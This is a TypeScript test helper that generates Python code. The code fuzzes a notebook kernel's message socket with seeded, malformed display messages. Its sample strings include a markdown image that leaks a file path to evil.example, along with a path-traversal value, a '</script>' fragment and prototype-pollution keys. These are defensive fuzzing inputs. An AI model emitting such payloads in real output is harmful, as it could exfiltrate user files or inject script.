const py = String.raw

/**
 * Code that sends `count` generated messages of a hostile kernel, under the number of the request that runs: valid messages with fields of other types,
 * repeated and missing fields, fragments, and bytes that are no messages. Equal seeds give equal messages. Prints `sent` at its end.
 */
export const generatedMessages = (seed: number, count: number): string => py`
import json, random, struct
session = get_ipython().kernel.session; sock = session.channel._socket; request = session.request_id; r = random.Random(${seed})
OPS = ("display", "result", "update", "clear", "error", "omitted", "input", "ready", "comm_open", "input_request", "status", "execute", None, 7, {})
MIMES = ("text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/jpeg", "image/svg+xml", "application/json", "application/javascript",
    "application/vnd.dataresource+json", "application/vnd.cellblock.chart.v1+json", "application/vnd.plotly.v1+json", "cellblock/ref", "__proto__", "constructor", "", "x/\r\ny", "x" * 300)
KEYS = ("toString", "valueOf", "then", "toJSON", "length", "__proto__", "constructor", "objectKey", "display_id", "url", "data", "text", "charts", "series", "schema", "\ud800", "")
TEXTS = ("", "x", "\0", "\ud800", "\u202e", "\x1b[2J", "a\r\nb: c", "</script>", "data:image/png;base64,", "iVBORw0KGgo=", "![x](https://evil.example/?u=/mnt/data/a)", "sandbox:/mnt/data/../x", "A" * 5_000, "\U0001F600" * 40)
NUMBERS = (0, -1, 1, 1.5, 1e308, 2 ** 31, 2 ** 53 + 1, 2 ** 63, -2 ** 70, float("inf"), float("nan"), True, False, None)
def value(depth=0):
    k = r.randrange(10)
    if k < 3 or depth > 5: return r.choice(TEXTS)
    if k < 6: return r.choice(NUMBERS)
    if k < 8: return [value(depth + 1) for _ in range(r.randrange(4))]
    return {r.choice(KEYS): value(depth + 1) for _ in range(r.randrange(4))}
def likely(valid): return valid() if r.random() < 0.6 else value()
def bundle(): return {r.choice(MIMES): r.choice((value, lambda: r.choice(TEXTS), lambda: [r.choice(TEXTS), r.choice(TEXTS)]))() for _ in range(r.randrange(1, 5))}
FIELDS = {
    "data": bundle, "metadata": lambda: {r.choice(MIMES): value()}, "transient": lambda: {"display_id": r.choice(("a", "b"))}, "count": lambda: r.randrange(9), "wait": lambda: True,
    "name": lambda: "Error", "value": lambda: r.choice(TEXTS), "traceback": lambda: [r.choice(TEXTS)], "cut_bytes": lambda: r.randrange(99), "bytes": lambda: r.randrange(99), "reason": lambda: "max_display_bytes",
}
def message():
    fields = {"id": request if r.random() < 0.95 else value(), "op": r.choice(OPS) if r.random() < 0.98 else value()}
    for field, valid in FIELDS.items():
        if r.random() < 0.8: fields[field] = likely(valid)
    body = json.dumps(fields).encode()
    if r.random() < 0.05: body = body[: r.randrange(len(body))] + r.randbytes(r.randrange(4)) + body[r.randrange(len(body)):]
    if r.random() < 0.02: body = body.replace(b'"', b'\\"', 1)
    return body
sent = 0
for number in range(${count}):
    body = message(); sent += 1
    if r.random() < 0.02: sock.send(bytes((r.choice((0x31, 0x32, 0x42, 0x53, r.randrange(256))),)) + r.randbytes(r.randrange(40))); sent += 1
    parts = [body] if r.random() < 0.9 and len(body) < 60_000 else [body[i : i + 20_000] for i in range(0, len(body), 20_000)]
    for i, part in enumerate(parts): sock.send(struct.pack("<BQB", 0x4A, (1 << 52) + number, int(i == len(parts) - 1)) + part)
print("sent", sent)`
